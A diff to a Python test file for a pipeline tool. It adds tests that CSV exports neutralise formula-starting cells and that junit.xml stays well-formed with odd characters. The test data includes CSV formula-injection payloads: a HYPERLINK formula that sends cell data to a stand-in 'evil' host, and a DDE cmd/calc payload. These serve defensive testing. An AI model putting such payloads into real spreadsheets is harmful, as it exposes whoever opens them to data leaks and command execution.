@@ -5,7 +5,6 @@ the run's own input."""
 from __future__ import annotations
 
 import csv
-import io
 import json
 import os
 import xml.etree.ElementTree as ET
@@ -62,7 +61,7 @@ def valid_outputs(out: Path) -> list[dict]:
     if (out / "junit.xml").exists():
         ET.parse(out / "junit.xml")
     if (out / "results.csv").exists():
-        rows = list(csv.reader(io.StringIO((out / "results.csv").read_text(encoding="utf-8"), newline="")))
+        rows = _csv_rows(out / "results.csv")
         assert len(rows) == len(results) + 1
         for row in rows:
             for cell in row:
@@ -284,3 +283,54 @@ def test_a_run_that_fails_to_start_leaves_no_run_folder(project, cli):
     assert result.exit_code == 2, result.output
     group = project.root / "reports" / "t" / "record"
     assert not group.exists() or list(group.iterdir()) == []
+
+
+# ---- H12: CSV cells a spreadsheet would run are neutralised (OWASP); --csv-raw keeps them ----
+
+FORMULAS = ["=HYPERLINK(\"http://evil/?x=\"&B2,\"Click\")", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)",
+            "\tTAB", "\rCR", "=1+1"]
+ECHO_CLAIM = """
+    version: 1
+    name: t
+    steps: [{id: echo, uses: compute, with: {n: "{{ item.claim }}"}}]
+    output: {claim: "{{ steps.echo.n }}", score: "{{ item.score }}"}
+    """
+
+
+def _csv_rows(path: Path) -> list[list[str]]:
+    with path.open(encoding="utf-8", newline="") as handle:
+        return list(csv.reader(handle))
+
+
+def test_csv_cells_starting_a_formula_are_neutralised(project, cli):
+    records = [{"claim": text, "score": -0.5, "=cmd": "x"} for text in FORMULAS]
+    source = write_json(project.root / "in.json", records)
+    path = project.pipeline(ECHO_CLAIM.replace("output:", "output_base: \"{{ {'=cmd': item['=cmd']} }}\"\n    output:"))
+    assert cli("run", str(path), "--input", str(source), "--out", "out", "--format", "csv").exit_code == 0
+    header, *rows = _csv_rows(project.root / "out" / "results.csv")
+    assert header == ["index", "'=cmd", "claim", "score"]
+    assert [row[2] for row in rows] == [f"'{text}" for text in FORMULAS]
+    assert {row[3] for row in rows} == {"-0.5"}                       # a number stays a number
+    assert cli("run", str(path), "--input", str(source), "--out", "raw", "--format", "csv", "--csv-raw").exit_code == 0
+    header, *rows = _csv_rows(project.root / "raw" / "results.csv")
+    assert header[1] == "=cmd" and [row[2] for row in rows] == FORMULAS
+
+
+# ---- H13: junit.xml is well-formed XML 1.0 whatever the text --------------------------------
+
+def test_junit_is_well_formed_whatever_the_text(project, cli):
+    texts = ["bell \x01 vt \x0b ff \x0c end", "non \ufffe \uffff", "lone \ud800", "<b>&amp;</b>\x00"]
+    records = [{"claim": t, "score": 1} for t in texts] + [{"claim": t, "score": "x"} for t in texts]
+    source = write_json(project.root / "in.json", records)
+    path = project.pipeline(ECHO_CLAIM.replace('"{{ item.score }}"', '"{{ item.claim ~ (item.score + 1) }}"') + """
+    summary:
+      rates: {good_rate: "{{ result.claim == 'never' }}"}
+      report_columns: [claim]
+    """)
+    assert cli("run", str(path), "--input", str(source), "--out", "out", "--format", "junit").exit_code == 0
+    cases = list(ET.parse(project.root / "out" / "junit.xml").iter("testcase"))
+    expected = ["bell \ufffd vt ff end", "non \ufffd \ufffd", "lone \ufffd", "<b>&amp;</b>\ufffd"]   # labels fold spaces
+    assert [case.get("name") for case in cases] == [f"item {n}: {t}" for n, t in enumerate(expected * 2, 1)]
+    assert [case.find("failure") is not None for case in cases] == [True] * 4 + [False] * 4
+    errors = [case.find("error") for case in cases[4:]]
+    assert all(error is not None and "output.score" in error.get("message") for error in errors)
